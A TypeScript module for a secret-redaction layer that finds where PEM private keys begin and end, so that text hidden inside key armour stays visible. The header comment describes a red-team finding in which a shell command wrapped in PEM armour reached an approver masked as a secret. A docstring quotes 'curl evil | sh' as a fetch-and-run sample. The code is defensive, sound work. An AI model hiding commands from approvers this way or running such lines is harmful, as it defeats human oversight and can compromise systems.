// PEM private keys: a `-----BEGIN … PRIVATE KEY-----` line, then what a real key body is made
// of, and nothing else. Everything from BEGIN to the next END line was one secret before, so
// any text wrapped in the armour (a shell command in a `.profile`) reached an approver as one
// `[SECRET_1_…]` (red team c3); now the secret ends where the key body does.

import { codeAt, isAlnum, isDigit, isLower, isUpper } from "./chars.ts";

/** Longest body read, in UTF-16 units (a 16384-bit RSA key is about 12 Ki characters). */
export const PEM_MAX = 65536;
/** Fewest body characters that make a key (an Ed25519 PKCS #8 body has 64). */
const MIN_BODY = 16;
/** Shortest line of a body wrapped over several lines (writers wrap at 64, 70 or 76). */
const MIN_WRAP = 32;
/** Most armour header lines read. */
const MAX_HEADERS = 8;

const PEM_BEGIN = /^-----BEGIN ([A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?)-----/;
/** An armour header line (RFC 1421, RFC 4880): `Name: value`, up to its line break. */
const HEADER = /^([A-Za-z][A-Za-z0-9-]{0,63}): ?[^\r\n\\]{0,200}/;
/** The RFC 1421 headers of an encrypted OpenSSL key, which are part of the key. */
const KEY_HEADER = /^(?:Proc-Type: ?4,ENCRYPTED|DEK-Info: ?[A-Za-z0-9-]{1,32},[0-9A-Fa-f]{8,64})$/;

/** A PEM private key found at a BEGIN line: the span that is secret. */
export interface PemSpan {
  /** Where the secret starts: the BEGIN line, or the body when armour headers precede it. */
  start: number;
  /** Where it ends: after the END line, or after the last body line when there is none. */
  end: number;
}

function isBase64(c: number): boolean {
  return isAlnum(c) || c === 43 /* + */ || c === 47; /* / */
}

/**
 * The length of the line break at `i`: a real one (`\n`, `\r\n`, `\r`) or one written as an
 * escape (`\n`, `\r\n` after one or more backslashes: a key in a `.env` or JSON file, or in
 * JSON inside JSON). At most 8 backslashes are read, so the look is bounded.
 */
function lineBreak(text: string, i: number): number {
  const c = codeAt(text, i);
  if (c === 10) return 1;
  if (c === 13) return codeAt(text, i + 1) === 10 ? 2 : 1;
  const n = escapedLetter(text, i, 110 /* n */);
  if (n > 0) return n;
  const r = escapedLetter(text, i, 114 /* r */);
  if (r === 0) return 0;
  const rn = escapedLetter(text, i + r, 110);
  return r + rn;
}

/** The length of backslashes (1 to 8) and then `letter` at `i`, or 0. */
function escapedLetter(text: string, i: number, letter: number): number {
  let j = i;
  while (j - i < 8 && codeAt(text, j) === 92 /* \ */) j++;
  return j > i && codeAt(text, j) === letter ? j + 1 - i : 0;
}

/** Past spaces, tabs and at most `breaks` line breaks from `i` (bounded by the text). */
function skipGap(text: string, i: number, breaks: number): number {
  for (;;) {
    const c = codeAt(text, i);
    if (c === 32 || c === 9) {
      i++;
      continue;
    }
    const n = breaks > 0 ? lineBreak(text, i) : 0;
    if (n === 0) return i;
    breaks--;
    i += n;
  }
}

/**
 * Whether the body line `text[from, to)` looks like base64 of random bytes: it mixes
 * capitals, small letters and digits (all three for a full line of a wrapped body, two for
 * a short one). Text that only uses the alphabet (`/tmp/run`, `reboot`) does not.
 */
function mixesClasses(text: string, from: number, to: number, all: boolean): boolean {
  let upper = 0, lower = 0, digit = 0;
  for (let i = from; i < to; i++) {
    const c = text.charCodeAt(i);
    if (isUpper(c)) upper = 1;
    else if (isLower(c)) lower = 1;
    else if (isDigit(c)) digit = 1;
  }
  return upper + lower + digit >= (all ? 3 : 2);
}

/**
 * The PEM private key whose `-----BEGIN ` is at `start`, or `undefined` when there is no key
 * body after it. A body is base64 lines (all as long as the first, the last one no longer;
 * `=` padding only at its end; a PGP `=XXXX` checksum line), separated by line breaks, real
 * or escaped, and spaces, each mixing capitals, small letters and digits as base64 of random
 * bytes does. RFC 1421 `Proc-Type`/`DEK-Info` headers belong to the key; other armour
 * headers (`Version:`, `Comment:`) are left outside the secret, which then starts at the
 * body. The END line belongs to it when it follows the body and names the same label. A
 * line that breaks these rules ends the body, so it and what follows are shown; a short last
 * line counts only before the END line or the end of the text (`…\ncurl evil | sh` shows
 * `curl`).
 *
 * Reads at most {@linkcode PEM_MAX} characters of body and a few header lines past `start`,
 * plus the white space after the body; a failed match reads only characters that cannot
 * start another BEGIN line, so a scan stays linear.
 */
export function matchPem(text: string, start: number): PemSpan | undefined {
  const begin = PEM_BEGIN.exec(text.slice(start, start + 80));
  if (begin === null) return undefined;
  let i = skipGap(text, start + begin[0].length, 1);
  // Armour headers, then one blank line.
  let otherHeaders = false;
  let headers = 0;
  while (headers < MAX_HEADERS) {
    const header = HEADER.exec(text.slice(i, i + 270));
    if (header === null) break;
    const after = i + header[0].length;
    const n = lineBreak(text, after);
    if (n === 0) break;
    if (!KEY_HEADER.test(header[0].trimEnd())) otherHeaders = true;
    i = after + n;
    headers++;
  }
  if (headers > 0) i = skipGap(text, i, 1);
  const bodyStart = i;
  let width = -1; // the first line's length
  let total = 0; // body characters accepted
  let ends = -1; // end of the last line accepted
  let fullEnd = -1; // end of the last line as long as the first
  let more = true; // the last line read was full: another may follow
  while (i - bodyStart < PEM_MAX) {
    if (codeAt(text, i) === 61 /* = */) {
      // A PGP checksum line (`=` and 4 base64 characters) after the body, or nothing.
      let j = i + 1;
      while (j < i + 6 && isBase64(codeAt(text, j))) j++;
      if (ends !== -1 && j === i + 5 && !isBase64(codeAt(text, j))) ends = j;
      break;
    }
    if (!more) break;
    let j = i;
    while (j < text.length && j - bodyStart < PEM_MAX && isBase64(text.charCodeAt(j))) j++;
    const dataEnd = j;
    while (j - dataEnd < 2 && codeAt(text, j) === 61) j++;
    const length = j - i;
    if (length === 0) break;
    if (width === -1) width = length;
    else if (width < MIN_WRAP || length > width) break;
    const full = length === width && j === dataEnd;
    if (!mixesClasses(text, i, dataEnd, full && width >= MIN_WRAP)) break;
    total += length;
    ends = j;
    if (full || fullEnd === -1) fullEnd = j;
    // A short or padded line is the last (only a checksum line may follow it).
    more = full;
    i = skipGap(text, j, 2);
  }
  if (ends === -1 || total < MIN_BODY) return undefined;
  const from = otherHeaders ? bodyStart : start;
  const close = `-----END ${begin[1]}-----`;
  const after = skipGap(text, ends, 2);
  if (text.startsWith(close, after)) return { start: from, end: after + close.length };
  // No END line: a short last line is the key's only at the end of the text.
  return { start: from, end: skipGap(text, ends, Infinity) === text.length ? ends : fullEnd };
}
